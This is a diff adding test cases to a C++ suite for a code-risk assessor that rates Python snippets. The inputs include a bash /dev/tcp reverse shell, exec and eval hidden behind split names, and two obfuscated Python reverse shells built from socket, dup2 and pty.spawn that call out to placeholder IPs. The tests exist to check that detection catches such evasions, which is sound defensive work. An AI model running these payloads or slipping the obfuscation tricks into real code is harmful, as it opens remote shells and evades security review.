@@ -126,3 +126,22 @@ TEST(AssessCapabilities, RegexPatternsNameWhatTheyLookForWithoutDoingIt) {
   EXPECT_EQ(level("import re, os\nCMD = 'bash -i >& /dev/tcp/10.0.0.1/4242 0>&1'\nos.system(CMD)\n"),
             RiskLevel::blocked);
 }
+
+TEST(AssessCapabilities, HiddenCallsAreRatedByWhatTheyReach) {
+  // exec reached through vars(builtins) with a name in pieces: hidden code execution.
+  EXPECT_EQ(level("import builtins, sys\nvars(builtins)['ex' + 'ec'](sys.stdin.read())\n"), RiskLevel::blocked);
+  EXPECT_EQ(level("import builtins, sys\ngetattr(builtins, 'ev' + 'al')(sys.argv[1])\n"), RiskLevel::blocked);
+  // A hidden constant command is raised one level, from MEDIUM to HIGH.
+  EXPECT_EQ(level("import subprocess\ngetattr(subprocess, 'check_' + 'output')(['uptime'])\n"), RiskLevel::high);
+  // Socket, dup2 and a shell, each reached by a computed name, are still a reverse shell.
+  EXPECT_EQ(level("import importlib\nm = {'a': 'so' + 'cket', 'b': 'o' + 's', 'c': 'p' + 'ty'}\n"
+                  "s = getattr(importlib.import_module(m['a']), 'create_' + 'connection')(('203.0.113.9', 9001))\n"
+                  "for fd in range(3):\n    getattr(importlib.import_module(m['b']), 'du' + 'p2')(s.fileno(), fd)\n"
+                  "getattr(importlib.import_module(m['c']), 'sp' + 'awn')('/bin/bash')\n"),
+            RiskLevel::blocked);
+  // Modules passed as values into a lambda: the steps are still socket, dup2 and a shell.
+  EXPECT_EQ(level("(lambda s, o, p: [(c := s.socket(s.AF_INET, s.SOCK_STREAM)), c.connect(('192.0.2.1', 53)),\n"
+                  "  *[o.dup2(c.fileno(), fd) for fd in (0, 1, 2)], p.spawn(['/bin/sh', '-i'])])"
+                  "(*map(__import__, ('socket', 'os', 'pty')))\n"),
+            RiskLevel::blocked);
+}
